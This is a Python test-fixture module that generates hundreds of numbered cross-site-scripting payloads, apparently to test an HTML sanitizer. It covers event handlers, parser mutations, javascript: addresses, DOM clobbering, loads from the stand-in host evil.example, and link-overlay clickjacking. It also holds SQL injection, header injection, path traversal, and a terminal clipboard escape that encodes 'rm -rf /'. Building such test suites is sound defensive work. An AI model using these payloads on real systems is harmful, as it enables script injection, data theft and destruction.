"""What a hostile server may write into a field: HTML, addresses and names that try to run a script, load, or take over.

The kinds are those of the public collections: event handlers, mutation through parsers that disagree (MathML, SVG,
``style``, ``noscript``, ``template``, ``select``, tables), clobbered names, addresses, frames, redirects, styles, SVG
animation, entities, custom elements. Each payload calls ``ran("<its number>")`` if it runs, and asks
``evil.example`` if it loads. Add to a list to extend every test that takes ``PAYLOADS``.
"""

from __future__ import annotations

from html import escape
from itertools import product
from typing import Final

EVIL: Final = "evil.example"
"""The host that nobody may be asked for."""

CLOBBERED: Final = (
    "attributes", "body", "cookie", "createElement", "currentScript", "defaultView", "documentElement", "firstChild",
    "forms", "getElementById", "head", "implementation", "innerHTML", "location", "nodeName", "parentNode",
    "querySelector", "ran", "title", "trustedTypes",
)  # fmt: skip
"""Names of the page's own that an ``id`` or a ``name`` could take."""

_BY_THEMSELVES = (
    "<img src=x onerror={js}>",
    "<img src=x onerror={js}//",
    '<img src="x" onerror="{js}">',
    "<img src=x onerror='{js}'>",
    "<img/src=x/onerror={js}>",
    "<img\nsrc=x\tonerror\x0c={js}>",
    "<IMG SRC=x ONERROR={js}>",
    "<img src=x onload=1 onerror={js} onerror=1>",
    "<img srcset=x onerror={js}>",
    "<image src=x onerror={js}>",
    "<picture><source srcset=x><img onerror={js} src=x></picture>",
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><g onload={js}></g></svg>",
    "<svg><image href=x onerror={js} /></svg>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<frameset onload={js}><frame>",
    "<iframe onload={js}></iframe>",
    "<iframe src=about:blank onload={js}></iframe>",
    "<object data=x onerror={js}></object>",
    "<embed src=x onload={js}>",
    "<video src=x onerror={js}></video>",
    "<video><source src=x onerror={js}></video>",
    "<video poster=x src=x onloadstart={js}></video>",
    "<audio src=x onerror={js} autoplay></audio>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<button autofocus onfocus={js}>x</button>",
    "<a href=# autofocus onfocus={js} tabindex=1>x</a>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<dialog open ontoggle={js}>x</dialog>",
    "<marquee onstart={js}>x</marquee>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<script src=x onerror={js}></script>",
    "<input type=image src=x onerror={js}>",
    "<track src=x onerror={js}>",
    "<xss style='animation:lp-move 1s' onanimationstart={js}>x</xss>",
    "<p style='transition:color 1ms' ontransitionend={js}>x</p>",
    "<xss contenteditable autofocus onfocus={js} tabindex=1>x</xss>",
    "<p oncontentvisibilityautostatechange={js} style='content-visibility:auto;display:block'>x</p>",
    "<p onscrollsnapchange={js} onfocusin={js} tabindex=0 autofocus>x</p>",
)

_EVENTS = (
    "abort", "animationend", "animationiteration", "animationstart", "auxclick", "beforeinput", "beforetoggle", "blur",
    "cancel", "canplay", "change", "click", "close", "contextmenu", "copy", "cut", "dblclick", "drag", "dragstart", "drop",
    "error", "focus", "focusin", "focusout", "formdata", "gotpointercapture", "input", "invalid", "keydown", "keyup",
    "load", "mousedown", "mouseenter", "mousemove", "mouseover", "mouseup", "paste", "pointerdown", "pointerover",
    "pointerrawupdate", "reset", "scroll", "scrollend", "search", "select", "selectstart", "slotchange", "submit", "toggle",
    "touchstart", "transitionrun", "transitionend", "wheel",
)  # fmt: skip
"""What a test may set off by hand on every element that is there."""

EVENTS: Final = _EVENTS

_HOLDERS = ("<p on{event}={js}>x</p>", "<math><mi on{event}={js}>x</mi></math>", "<svg><a on{event}={js}>x</a></svg>")

_SCRIPTS = (
    "<script>{js}</script>",
    "<script>{js}//",
    "<SCRIPT>{js}</SCRIPT>",
    "<script\x0c>{js}</script>",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>{js}//<</script>",
    "<script type=module>{js}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,{js}></script>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=data:text/javascript,{js} /></svg>",
    "<svg><script xlink:href=data:text/javascript,{js}></script></svg>",
    "<math><script>{js}</script></math>",
    "<svg><script>&#114;an(1)</script></svg>",
    "<noscript><script>{js}</script></noscript>",
    "<template><script>{js}</script></template>",
    "<div><template shadowrootmode=open><script>{js}</script><img src=x onerror={js}></template></div>",
    "<div><template shadowroot=open><img src=x onerror={js}></template></div>",
    '<script type=importmap>{{"imports":{{"x":"//evil.example/x.js"}}}}</script>',
    '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["//evil.example/"]}}]}}</script>',
    "</script><script>{js}</script>",
    "</textarea></title></style></noscript></template></select></table><script>{js}</script>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script><![CDATA[",
    '"><script>{js}</script>',
    "'><img src=x onerror={js}>",
    "`><img src=x onerror={js}>",
    "\x00<script>\x00{js}</script>",
    "<?xml-stylesheet href=javascript:{js} ?><img src=x onerror={js}>",
    "<!doctype html><script>{js}</script>",
    "<html><head><script>{js}</script></head><body onload={js}></body></html>",
)

_OUTSIDES = (
    "<math>{}</math>", "<math><mtext>{}</mtext></math>", "<math><mi>{}</mi></math>", "<math><mo>{}</mo></math>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<math><annotation-xml>{}</annotation-xml></math>", "<math><semantics>{}</semantics></math>",
    "<math><mtext><table><mglyph>{}</mglyph></table></mtext></math>", "<math><mtext><malignmark>{}</math>",
    "<form><math><mtext></form><form><mglyph>{}</math>", "<svg>{}</svg>", "<svg><desc>{}</desc></svg>",
    "<svg><title>{}</title></svg>", "<svg><foreignObject>{}</foreignObject></svg>", "<svg></p>{}", "<math></p>{}",
    "<select>{}</select>", "<select><option>{}</option></select>", "<table>{}</table>", "<table><caption>{}</table>",
    "<template>{}</template>", "<noscript>{}</noscript>", "<form><form>{}</form></form>", "<a><a>{}</a></a>",
    "<button>{}</button>", "<p><svg><p>{}</svg>", "<object>{}</object>", "<ruby><rt>{}</ruby>",
)  # fmt: skip
_INSIDES = (
    '<style><a title="</style><img src=x onerror={js}>">',
    '<style><!--</style><a title="--><img src=x onerror={js}>">',
    '<title><a title="</title><img src=x onerror={js}>">',
    '<textarea><a title="</textarea><img src=x onerror={js}>">',
    '<noscript><a title="</noscript><img src=x onerror={js}>">',
    '<xmp><a title="</xmp><img src=x onerror={js}>">',
    '<!--><a title="--><img src=x onerror={js}>">',
    '<![CDATA[<a title="]]><img src=x onerror={js}>">',
    "<style><img src=x onerror={js}></style>",
    '<iframe><a title="</iframe><img src=x onerror={js}>"></iframe>',
)

_MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src='x' "
    'onerror={js}>">',
    "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src='x' onerror={js}>\">",
    '<svg><p><style><g title="</style><img src=x onerror={js}>">',
    '<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x '
    'onerror={js}>"></style></svg></caption></table>',
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<form><input name=attributes><input name=nodeName><img src=x onerror={js}></form>",
    "<form><input name=parentNode><img src=x onerror={js}></form>",
    "<form onmouseover={js}><input name=attributes></form>",
    "<math href='javascript:{js}'><mtext>x</mtext></math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:{js}'>x</maction></math>",
    "<math><mglyph src=http://evil.example/x.png></mglyph><img src=x onerror={js}></math>",
    "<math><mi//xlink:href=data:x,<script>{js}</script>>",
    "<div id=1><svg><foreignObject><math><mi><img src=x onerror={js}></mi></math></foreignObject></svg></div>",
    "<plaintext><img src=x onerror={js}>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<xmp>&lt;img src=x onerror={js}&gt;</xmp><xmp></xmp><img src=x onerror={js}>",
    "<title>&lt;/title&gt;&lt;img src=x onerror={js}&gt;</title>",
    "<a title='&lt;/a&gt;&lt;img src=x onerror={js}&gt;'>x</a>",
    "<code>&lt;img src=x onerror={js}&gt;</code>",
    "&lt;img src=x onerror={js}&gt;",
    "&amp;lt;img src=x onerror={js}&amp;gt;",
    "&#60;img src=x onerror={js}&#62;",
    "&#x3c;script&#x3e;{js}&#x3c;/script&#x3e;",
    "<span class='k' on\x00click={js}>x</span>",
    "<p>" * 600 + "<img src=x onerror={js}>",
    "<math>" + "<mrow>" * 600 + "<mtext><img src=x onerror={js}>",
    "<table>" * 80 + "<img src=x onerror={js}>",
    "<svg><style>&lt;/style&gt;&lt;img src=x onerror={js}&gt;</style></svg>",
    "<svg><desc><![CDATA[</desc><script>{js}</script>]]></svg>",
    "<!--<img src=--><img src=x onerror={js}//>",
    "<!-- --!><img src=x onerror={js}>",
    "<!--<!--><img src=x onerror={js}>-->",
    "<![><img src=x onerror={js}>",
    "<?><img src=x onerror={js}>",
    "</><img src=x onerror={js}>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{js}</x:script>",
    "<b <script>{js}</script>x",
    "<details><template><img src=x onerror={js}></template><summary>x<img src=x onerror={js}></summary></details>",
)

_ADDRESSES = (
    "javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "\x01javascript:{js}", "\x1fjavascript:{js}",
    "java\tscript:{js}", "java\nscript:{js}", "java&#10;script:{js}", "java&Tab;script:{js}", "javascript&colon;{js}",
    "&#106;avascript:{js}", "&#x6A;avascript:{js}", "javascript://%0a{js}", "javascript:void({js})", "\u2003javascript:{js}",
    "feed:javascript:{js}", "view-source:javascript:{js}", "vbscript:{js}", "data:text/html,<script>parent.{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload={js}>", "blob:x", "file:///x",
    "//evil.example/x", "\\\\evil.example\\x", "http:\x0a//evil.example/x",
)  # fmt: skip
_SINKS = (
    '<a href="{address}">x</a>', '<svg><a xlink:href="{address}"><text>x</text></a></svg>',
    '<form action="{address}"><button>x</button></form>', '<iframe src="{address}"></iframe>',
    '<math><mi href="{address}">x</mi></math>',
)  # fmt: skip

_LOADERS = (
    "<img src=http://evil.example/{n}>",
    "<img srcset='http://evil.example/{n} 1x'>",
    "<picture><source srcset=http://evil.example/{n}><img></picture>",
    "<video poster=http://evil.example/{n}></video>",
    "<audio src=http://evil.example/{n} autoplay></audio>",
    "<input type=image src=http://evil.example/{n}>",
    "<body background=http://evil.example/{n}>",
    "<table background=http://evil.example/{n}><td background=http://evil.example/{n}>x</table>",
    "<p style='background:url(http://evil.example/{n})'>x</p>",
    "<p style=\"background-image:image-set('http://evil.example/{n}' 1x)\">x</p>",
    "<p style='list-style:url(http://evil.example/{n})'>x</p>",
    "<style>@import 'http://evil.example/{n}.css';</style>",
    "<style>@import url(//evil.example/{n}.css);*{{background:url(http://evil.example/{n})}}</style>",
    "<style>@font-face{{font-family:x;src:url(http://evil.example/{n})}}*{{font-family:x!important}}</style>",
    "<svg><style>*{{background:url(http://evil.example/{n})}}</style></svg>",
    "<math><mtext><style>*{{background:url(http://evil.example/{n})}}</style></mtext></math>",
    "<link rel=stylesheet href=http://evil.example/{n}.css>",
    "<link rel=prefetch href=http://evil.example/{n}>",
    "<link rel=preload as=image href=http://evil.example/{n}>",
    "<link rel=modulepreload href=http://evil.example/{n}.js>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preconnect href=http://evil.example>",
    "<link rel=manifest href=http://evil.example/{n}>",
    "<link rel=icon href=http://evil.example/{n}>",
    "<iframe src=http://evil.example/{n}></iframe>",
    "<iframe srcdoc='<img src=http://evil.example/{n}>'></iframe>",
    "<object data=http://evil.example/{n}></object>",
    "<embed src=http://evil.example/{n}>",
    "<frameset><frame src=http://evil.example/{n}></frameset>",
    "<portal src=http://evil.example/{n}></portal>",
    "<fencedframe src=http://evil.example/{n}></fencedframe>",
    "<svg><image href=http://evil.example/{n} width=9 height=9 /></svg>",
    "<svg><use href=http://evil.example/{n}#x /></svg>",
    "<svg><feImage href=http://evil.example/{n} /></svg>",
    "<svg><rect width=9 height=9 filter='url(http://evil.example/{n}#f)' /></svg>",
    "<math><mglyph src=http://evil.example/{n} /></math>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{n}'>",
    "<meta http-equiv=refresh content='0;url=javascript:ran({n})'>",
    "<meta http-equiv=set-cookie content='x=1'>",
    "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
    "<meta name=referrer content=unsafe-url>",
    "<base href=http://evil.example/>",
    "<base target=_self><a href=http://evil.example/{n}>x</a>",
    "<a href=http://127.0.0.1:9/ ping=http://evil.example/{n}>x</a>",
    "<a href=http://evil.example/{n} target=_top rel=opener>x</a>",
    "<a href=http://evil.example/{n} download=x attributionsrc=http://evil.example/{n}>x</a>",
    "<form action=http://evil.example/{n}><input name=x><button autofocus>x</button></form>",
    "<form id=f{n} action=http://evil.example/{n}></form><button form=f{n}>x</button>",
    "<button formaction=http://evil.example/{n}>x</button>",
    "<button formaction=javascript:ran({n})>x</button>",
    "<form><button formaction=javascript:ran({n})>x</button></form>",
    "<form><input type=submit formaction=javascript:ran({n})></form>",
    "<input type=password name=password autocomplete=current-password>",
    "<isindex type=image src=http://evil.example/{n}>",
    "<applet code=http://evil.example/{n}></applet>",
    "<bgsound src=http://evil.example/{n}>",
)

_FRAMES_AND_DRAWINGS = (
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    '<iframe srcdoc="&lt;img src=x onerror=parent.{js}&gt;"></iframe>',
    '<iframe src="javascript:parent.{js}"></iframe>',
    "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>parent.{js}</script>'></iframe>",
    "<object data='data:text/html,<script>parent.{js}</script>'></object>",
    "<object type=text/html data='javascript:{js}'></object>",
    "<embed type=text/html src='javascript:{js}'>",
    '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>\'>',
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><animate onend={js} attributeName=x dur=1ms></svg>",
    "<svg><animateTransform onbegin={js} attributeName=transform></svg>",
    "<svg><set onbegin={js} attributeName=x></svg>",
    "<svg><a id=x><text>x</text><animate attributeName=href values=javascript:{js} /></a></svg>",
    "<svg><a><set attributeName=xlink:href to=javascript:{js} /><text>x</text></a></svg>",
    "<svg><a href=#><set attributeName=href to=javascript:{js} /><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror={js} /></svg>#x' />",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{js}</script>'></iframe></foreignObject></svg>",
    "<svg><foreignObject><body onload={js}></foreignObject></svg>",
    "<svg><switch><g requiredExtensions=http://evil.example><image href=x onerror={js} /></g></switch></svg>",
    "<svg><handler type=text/javascript ev:event=load>{js}</handler></svg>",
    "<svg><discard onbegin={js} begin=0s /></svg>",
    "<x-app onfocus={js} tabindex=0 autofocus>x</x-app>",
    "<button is=x-app onclick={js}>x</button>",
    "<slot onslotchange={js}>x</slot>",
    "<div popover id=p onbeforetoggle={js}>x</div><button popovertarget=p>x</button>",
    "<button commandfor=p command=show-popover onclick={js}>x</button>",
    "<p accesskey=x onclick={js} contenteditable>x</p>",
    "<keygen autofocus onfocus={js}>",
    "<label for=code onclick={js}>x</label>",
    "<map name=m><area shape=default href=javascript:{js}></map><img usemap=#m src=data:,>",
    "<div inert hidden onclick={js} style='position:fixed;inset:0;z-index:9999'>x</div>",
    "<center style='position:fixed;inset:0'><a href='javascript:{js}'>x</a></center>",
    "<p class='lp-jupyter jp-Dialog lm-Widget lp-qr-dialog'>x</p>",
    "<div class='jp-RenderedHTMLCommon' data-commandlinker-command='apputils:open' data-commandlinker-args='{{}}'>x</div>",
    "<button data-commandlinker-command='terminal:create-new' onclick={js}>x</button>",
    "<p data-jupyter-action=x data-lm-suppress-shortcuts=true aria-hidden=true role=alert tabindex=0>x</p>",
)

_CLOBBERS = (
    "<img name={name}>", "<form id={name}><input id={name} name={name}></form>",
    "<a id={name}></a><a id={name} name=href href=http://evil.example/></a>", "<iframe name={name} srcdoc=x></iframe>",
    "<embed name={name}><object id={name}></object>", "<p id={name}>x</p>",
)  # fmt: skip

NAMES: Final = ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then", "length")
"""What plain objects have already, so that a map with such a key must not find that."""

_TEXTS = (
    "\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x1b]52;c;cm0gLXJmIC8=\x07", "\x9b2J\x85new line",
    "\u202egnp.exe\u2066", "\r\nSet-Cookie: x=1\r\n\r\n<script>ran(0)</script>", "{{constructor.constructor('ran(0)')()}}",
    "${{ran(0)}}", "<%= ran(0) %>", "[x](javascript:ran(0))", "![x](http://evil.example/x.png)", "../../../api/contents",
    "%2e%2e%2f..%2f?x#y", "'; DROP TABLE rooms; --", "\ud83d\ude00" .encode("utf-16", "surrogatepass").decode("utf-16"),
    "a" * 20_000, "\u0300" * 2_000, *NAMES,
)  # fmt: skip


def _payloads() -> list[str]:
    templates = [
        *_BY_THEMSELVES,
        *(holder.replace("{event}", event) for event, holder in product(_EVENTS, _HOLDERS)),
        *_SCRIPTS,
        *(outside.replace("{}", inside) for outside, inside in product(_OUTSIDES, _INSIDES)),
        *_MUTATIONS,
        *(sink.replace("{address}", _in_quotes(address)) for sink, address in product(_SINKS, _ADDRESSES)),
        *_ADDRESSES,
        *_LOADERS,
        *_FRAMES_AND_DRAWINGS,
        *(clobber.replace("{name}", name) for clobber, name in product(_CLOBBERS, CLOBBERED)),
        *_TEXTS,
    ]
    return [_numbered(template, number) for number, template in enumerate(templates)]


def _in_quotes(address: str) -> str:
    return address.replace('"', escape('"', quote=True))


def _numbered(template: str, number: int) -> str:
    text = template.replace("{js}", f"ran({number})").replace("{n}", str(number))
    return text.replace("{{", "{").replace("}}", "}")


PAYLOADS: Final = _payloads()

_LINK: Final = f'<mtext><a href="https://{EVIL}/">CLICK CLICK CLICK CLICK</a></mtext>'

OVERLAYS: Final = (
    *(
        f'<math><mpadded {moved} width="0" height="0" depth="0">{_LINK}</mpadded></math>'
        for moved in (
            'voffset="12em"', 'voffset="-12em"', 'lspace="-12em"', 'lspace="25em"', 'voffset="260px"',
            'voffset="-260px"', 'voffset="99em" mathsize="20em"',
        )
    ),
    "<math>" + '<mpadded voffset="5em" lspace="-4em" height="0">' * 5 + _LINK + "</mpadded>" * 5 + "</math>",
    f'<math><mspace width="-20em"></mspace>{_LINK}</math>',
    f'<math><mstyle mathsize="9em"><mpadded voffset="2em" height="0" depth="0">{_LINK}</mpadded></mstyle></math>',
    f'<a href="https://{EVIL}/"><math><mpadded voffset="9em" height="0"><mtext>CLICK CLICK</mtext></mpadded></math></a>',
    "<math>" + '<mrow class="tml-n-36">' * 12 + _LINK + "</mrow>" * 12 + "</math>",
    *(
        f'<math><mrow class="{name}">{_LINK}</mrow></math><math class="{name}">{_LINK}</math>'
        f'<a class="{name}" href="https://{EVIL}/">CLICK</a><p class="{name}"><a href="https://{EVIL}/">CLICK</a></p>'
        for name in ("tml-cancelto", "tml-llap-in", "textcircle", "tml-cancel", "longdiv-arc", "tml-shift-left")
    ),
)  # fmt: skip
"""Links that ask to be shown, and to be hit, outside of the text that they stand in."""
